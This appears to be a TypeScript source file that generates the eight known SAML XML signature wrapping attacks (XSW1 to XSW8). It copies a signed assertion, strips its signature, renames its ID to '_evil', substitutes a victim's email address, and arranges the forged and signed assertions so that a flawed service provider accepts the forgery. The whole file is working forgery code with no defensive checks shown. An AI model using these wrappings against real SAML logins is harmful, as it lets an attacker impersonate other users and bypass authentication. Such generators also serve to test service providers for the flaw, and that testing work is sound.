// Signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the signed assertion stays somewhere in the
// document, and another one stands where a careless reader looks.

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<(?:ds:)?Signature[\s\S]*<\/(?:ds:)?Signature>/

interface Parts {
  whole: string
  /** The assertion as it was signed. */
  signed: string
  signature: string
  /** The same without its signature, about somebody else, under another id. */
  evil: string
}

function partsOf(whole: string, victim: string): Parts {
  const [signed = ''] = ASSERTION.exec(whole) ?? []
  const [signature = ''] = SIGNATURE.exec(signed) ?? []
  const evil = signed
    .replace(signature, '')
    .replace(/ ID="[^"]+"/, ' ID="_evil"')
    .replaceAll(/[\w.]+@idp\.example/g, victim)
  return { whole, signed, signature, evil }
}

const within = (outer: string, tag: string, inner: string) => outer.replace(`</${tag}>`, `${inner}</${tag}>`)

type Wrap = (parts: Parts) => string

/** Eight ways, by what stands where. */
export const wrappings: Record<string, Wrap> = {
  'XSW1: the signed response inside the signature of a forged one': ({ whole, signature, evil, signed }) =>
    whole.replace(
      signed,
      within(evil, 'saml:Assertion', signature.replace(/<\/((?:ds:)?Signature)>/, `${whole}</$1>`)),
    ),
  'XSW2: the signed response beside the signature of a forged one': ({ whole, signature, evil, signed }) =>
    whole.replace(signed, `${within(evil, 'saml:Assertion', signature)}${whole}`),
  'XSW3: the forged assertion before the signed one': ({ whole, signed, evil }) =>
    whole.replace(signed, `${evil}${signed}`),
  'XSW4: the signed assertion inside the forged one': ({ whole, signed, evil }) =>
    whole.replace(signed, within(evil, 'saml:Assertion', signed)),
  'XSW5: the forged assertion with the signature, the signed one at the end': ({
    whole,
    signed,
    signature,
    evil,
  }) => whole.replace(signed, `${within(evil, 'saml:Assertion', signature)}${signed.replace(signature, '')}`),
  'XSW6: the signed assertion inside the signature of the forged one': ({ whole, signed, signature, evil }) =>
    whole.replace(
      signed,
      within(
        evil,
        'saml:Assertion',
        signature.replace(/<\/((?:ds:)?Signature)>/, `${signed.replace(signature, '')}</$1>`),
      ),
    ),
  'XSW7: the forged assertion inside an extension before the signed one': ({ whole, signed, evil }) =>
    whole.replace(signed, `<samlp:Extensions>${evil}</samlp:Extensions>${signed}`),
  'XSW8: the signed assertion inside an object of the forged one’s signature': ({
    whole,
    signed,
    signature,
    evil,
  }) =>
    whole.replace(
      signed,
      within(
        evil,
        'saml:Assertion',
        signature.replace(
          /<\/((?:ds:)?Signature)>/,
          `<Object>${signed.replace(signature, '')}</Object></$1>`,
        ),
      ),
    ),
}

/** Wraps a signed response so that a careless reader takes it for the victim's. */
export function wrapped(name: string, victim: string): (xml: string) => string {
  return (xml) => {
    const wrap = wrappings[name]
    if (!wrap) throw new Error(`There is no wrapping "${name}".`)
    return wrap(partsOf(xml, victim))
  }
}
